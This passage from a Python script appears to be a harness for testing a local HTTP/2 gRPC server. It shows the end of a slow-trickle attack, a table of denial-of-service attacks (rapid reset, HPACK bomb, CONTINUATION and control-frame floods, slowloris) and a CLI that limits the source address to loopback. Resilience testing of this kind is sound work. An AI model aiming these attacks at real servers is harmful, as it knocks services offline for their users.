        if c is None:
            continue
        result.add(c)
        live.append(c)
        c.out += frame(HEADERS, END_HEADERS, 1, request_block(UNARY, port=port))
        c.trickle = bytearray(grpc_message(b"b" * 100))
        c.t_headers = time.monotonic()
        c.t_stream_end = None
        c.pump_out()
    end = time.monotonic() + seconds
    next_tick = time.monotonic()
    while time.monotonic() < end and any(c.open and c.t_stream_end is None for c in live):
        now = time.monotonic()
        for c in live:
            if c.open:
                c.pump_out()
                c.pump_in()
            if c.t_stream_end is None and (c.closed or 1 in c.resets or 1 in c.ended
                                           or c.goaway is not None):
                c.t_stream_end = now
        if now >= next_tick:
            for c in live:
                if c.open and c.t_stream_end is None and c.trickle:
                    c.out += frame(DATA, 0, 1, bytes(c.trickle[:1]))
                    del c.trickle[:1]
                    c.units += 1
            next_tick = now + interval
        time.sleep(0.005)
    lat = sorted(c.t_stream_end - c.t_headers for c in live if c.t_stream_end is not None)
    how = collections.Counter(
        "rst_stream" if 1 in c.resets else "response" if 1 in c.ended else
        "goaway" if c.goaway is not None else "closed" if c.closed else "still open"
        for c in live)
    d = finish(result, live, linger=0)
    d["stream_end"] = dict(how)
    if lat:
        d["end_after_headers_s"] = {"min": round(lat[0], 3),
                                    "median": round(lat[len(lat) // 2], 3),
                                    "max": round(lat[-1], 3)}
    return d


ATTACKS = {
    "rapid_reset": rapid_reset,
    "hpack_bomb": hpack_bomb,
    "continuation": continuation_flood,
    "ping": ping_flood,
    "settings": settings_flood,
    "empty_data": empty_data_flood,
    "window_update": window_update_flood,
    "priority": priority_flood,
    "slow_readers": slow_readers,
    "idle": idle_connections,
    "slowloris_headers": slowloris_headers,
    "slowloris_body": slowloris_body,
    "oversized_headers": oversized_headers,
}


def run(attack: str, port: int, **kw) -> dict:
    """Runs one attack in this process; returns its JSON-able result."""
    if not HAVE_HPACK:
        raise RuntimeError("python3-hpack is missing: apt-get install -y python3-hpack")
    fn = ATTACKS[attack]
    kw = {k: v for k, v in kw.items() if v is not None}
    return fn(port, **kw)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float)
    ap.add_argument("--count", type=int)
    ap.add_argument("--conns", type=int)
    ap.add_argument("--calls", type=int)
    ap.add_argument("--source", help="local address to connect from (127.0.0.0/8)")
    ap.add_argument("--nofile", type=int, help="raise RLIMIT_NOFILE to this first")
    ap.add_argument("--json", help="write the result here instead of stdout")
    a = ap.parse_args(argv)
    if a.nofile:
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(a.nofile, soft), hard), hard))
    if a.source and not a.source.startswith("127."):
        ap.error("--source must be a loopback address (127.0.0.0/8)")
    kw = {"seconds": a.seconds, "count": a.count, "conns": a.conns, "calls": a.calls,
          "source": a.source}
    import inspect
    accepted = inspect.signature(ATTACKS[a.attack]).parameters
    bad = [k for k, v in kw.items() if v is not None and k not in accepted]
    if bad:
        ap.error(f"{a.attack} does not take {', '.join('--' + b for b in bad)}")
    res = run(a.attack, a.port, **kw)
    text = json.dumps(res, indent=1, default=str)
    if a.json:
        with open(a.json, "w") as f:
            f.write(text + "\n")
    else:
        print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
